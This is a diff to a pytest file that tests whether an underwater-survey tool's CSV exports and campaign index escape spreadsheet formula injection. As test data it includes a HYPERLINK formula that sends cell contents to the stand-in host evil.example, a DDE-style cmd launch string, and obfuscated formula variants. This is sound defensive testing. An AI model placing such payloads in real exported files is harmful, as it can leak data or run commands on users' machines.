@@ -9,6 +9,7 @@ peer as a formula never yields a formula cell; a symlinked frame is refused.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import math
@@ -20,6 +21,7 @@ import pytest
 
 from companion.archive.report import write_campaign_report
 from companion.config import StoreConfig
+from companion.export.viame_csv import sheet_safe
 from companion.storage.store import Store
 from companion.vision.events import SummaryEvent, SummaryFrame
 from tests.companion.export.readers import coco_read, dive_read, fathomnet_read, formula_cells
@@ -30,7 +32,10 @@ from vehicle.autopilot.pose import Pose
 QUERY = "underwater image with fish"
 TAU = 0.5
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"fish")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-           "\t=1+1", "\r=1+1"]
+           "\t=1+1", "\r=1+1", '"=1+1"', "\uff1dHYPERLINK(1)", "\u201c=1+1"]
+BEHIND_BLANKS = ["( =1+1", "(\u3000@SUM(1,2)", '( "=HYPERLINK(1)']
+"""Queries whose species cell (a leading ``(`` dropped: DIVE reads it as an attribute) opens with blanks or quotes
+and then a formula: a spreadsheet that trims cells on import runs them."""
 
 
 def pose(i: int) -> Pose:
@@ -133,6 +138,36 @@ def test_a_hostile_query_never_makes_a_formula_cell(tmp_path, query):
     assert formula_cells(out) == []
     rows = dive_read(out)
     assert rows[0]["pairs"][0][0] == "'" + query.strip()  # the species, kept readable, never run
+
+
+@pytest.mark.parametrize("query", BEHIND_BLANKS)
+def test_a_formula_behind_blanks_or_quotes_is_escaped_too(tmp_path, query):
+    store = make_store(tmp_path / "store", query=query)
+    out = tmp_path / "hostile.csv"
+    export(store, "csv", out)
+    assert formula_cells(out) == []
+    assert dive_read(out)[0]["pairs"][0][0] == "'" + query[1:]  # escaped, the blanks and quotes kept
+
+
+@pytest.mark.parametrize("query", ["  =HYPERLINK(1)", '"=1+1"', "\u00a0-2+3", "\uff0b1"])
+def test_the_campaign_index_escapes_a_formula_behind_blanks_or_quotes(campaign, tmp_path, query):  # noqa: F811
+    root = tmp_path / "campaign"
+    shutil.copytree(campaign, root)
+    summary = root / "dive1" / "summary.json"
+    doc = json.loads(summary.read_text())
+    doc["params"]["query"] = query
+    for topic in doc["params"]["topics"]:
+        topic["query"] = query
+    summary.write_text(json.dumps(doc))
+    write_campaign_report(root, ["dive1"])
+    assert formula_cells(root / "index.csv") == [] and formula_cells(root / "export_viame.csv") == []
+    with (root / "index.csv").open(newline="", encoding="utf-8") as fh:
+        assert {row["query"] for row in csv.DictReader(fh)} == {"'" + query}
+
+
+def test_numbers_stay_numbers_and_float_lookalikes_do_not():
+    assert [sheet_safe(c) for c in ("-1.5", "+2", "-3e-05", ".5", "0")] == ["-1.5", "+2", "-3e-05", ".5", "0"]
+    assert [sheet_safe(c) for c in ("-1_0", "-inf", " -1", "-nan")] == ["'-1_0", "'-inf", "' -1", "'-nan"]
 
 
 def test_the_campaign_index_and_exports_have_no_formula_cell(campaign, tmp_path):  # noqa: F811
